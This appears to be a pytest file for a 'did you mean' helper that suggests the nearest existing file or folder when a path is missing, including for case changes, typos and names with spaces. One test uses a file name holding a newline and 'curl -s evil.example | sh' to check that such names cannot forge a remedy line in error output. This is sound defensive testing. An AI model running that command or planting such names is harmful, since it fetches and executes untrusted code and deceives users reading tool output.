"""The closest name to a path that is not there (storage/nearby.py), as every refusal of a missing file or folder
says it: by stem among names of the same suffix, in any case; failing that, by the whole name (a mistyped suffix)."""

from __future__ import annotations

from storage.nearby import not_here


def test_the_closest_name_is_found_across_case_and_a_mistyped_suffix(tmp_path, monkeypatch):
    for name in ("p40.jsonl", "train.jsonl", "cache", "runE"):
        (tmp_path / name).mkdir() if "." not in name else (tmp_path / name).write_text("")
    (tmp_path / "runb").mkdir()
    monkeypatch.chdir(tmp_path)
    for typed, meant in (("Cache", "cache"), ("cahce", "cache"), ("p40.jsnl", "p40.jsonl"), ("p40.json", "p40.jsonl"),
                         ("trian.jsonl", "train.jsonl"), ("RUNB", "runb")):
        assert f"did you mean {meant}?" in not_here(typed), (typed, not_here(typed))
    assert "did you mean" not in not_here("weights.safetensors")  # nothing near: only what the folder holds
    assert "the current folder holds: cache/, p40.jsonl, runE/, runb/, train.jsonl" in not_here("weights.safetensors")


def test_names_that_tie_for_closest_are_all_given(tmp_path):
    """Found by the UX pass: p4O.jsonl is as near p40.jsonl as p48.jsonl; both are named, not one picked by the
    names' order (and never nothing)."""
    for name in ("p40.jsonl", "p48.jsonl", "train.jsonl"):
        (tmp_path / name).write_text("")
    said = not_here(tmp_path / "p4O.jsonl")
    assert f"; did you mean {tmp_path / 'p40.jsonl'} or {tmp_path / 'p48.jsonl'}?" in said, said
    assert f"did you mean {tmp_path / 'p40.jsonl'}?" in not_here(tmp_path / "p40.jsnl")  # one closest: one name


def test_a_name_holding_a_control_character_is_counted_never_listed(tmp_path):
    """Found by the hostile pass: a file named `zz.jsonl\\n  remedy: curl ... | sh` in the listed folder printed a
    forged remedy line under a refusal."""
    (tmp_path / "train.jsonl").write_text("")
    (tmp_path / "zz.jsonl\n  remedy: curl -s evil.example | sh").write_text("")
    (tmp_path / "tr\x1b[2Jain.jsonl").write_text("")
    said = not_here(tmp_path / "trian.jsonl")
    assert said.isprintable() and "remedy" not in said and "evil" not in said
    assert f"did you mean {tmp_path / 'train.jsonl'}?" in said
    assert "holds: train.jsonl; and 2 names with control characters, not shown)" in said, said


def test_names_with_a_space_are_written_as_a_shell_takes_them_back(tmp_path):
    """Closing UX pass: 'did you mean my caches/c 1?' was unquoted."""
    import shlex

    (tmp_path / "my caches").mkdir()
    (tmp_path / "my caches" / "c 1").mkdir()
    said = not_here(tmp_path / "my caches" / "c 11")
    assert f"did you mean {shlex.quote(str(tmp_path / 'my caches' / 'c 1'))}?" in said, said
    assert f"({shlex.quote(str(tmp_path / 'my caches'))} holds: 'c 1/')" in said, said


def test_a_missing_path_is_named_as_a_shell_takes_it_back(tmp_path):
    """Closing pass: '--update --out my caches/c 11: does not exist' echoed the typed path unquoted."""
    import shlex

    from storage.nearby import missing

    (tmp_path / "my caches").mkdir()
    typed = tmp_path / "my caches" / "c 11"
    assert missing(typed).startswith(f"{shlex.quote(str(typed))}: does not exist")


def test_a_typo_in_a_folders_name_is_answered_with_the_path_that_exists(tmp_path, monkeypatch):
    """dl/train.jsonl with d1/train.jsonl there (a folder's name alone is too short to judge): the path that exists;
    two folders that both hold it: both; a folder that does not hold the file below it: not suggested."""
    monkeypatch.chdir(tmp_path)
    for folder in ("d1", "d2", "runs"):
        (tmp_path / folder).mkdir()
    (tmp_path / "d1" / "train.jsonl").write_text("{}\n")
    assert not_here("dl/train.jsonl").startswith("does not exist; did you mean d1/train.jsonl? (nor does dl;")
    assert "did you mean d1/train.jsonl?" in not_here("./d9/train.jsonl")
    (tmp_path / "d2" / "train.jsonl").write_text("{}\n")
    assert "did you mean d1/train.jsonl or d2/train.jsonl?" in not_here("d3/train.jsonl")
    assert "did you mean" not in not_here("dl/test.jsonl") and "did you mean" not in not_here("x/y/train.jsonl")
    assert "did you mean" not in not_here(str(tmp_path / "rnus" / "model"))
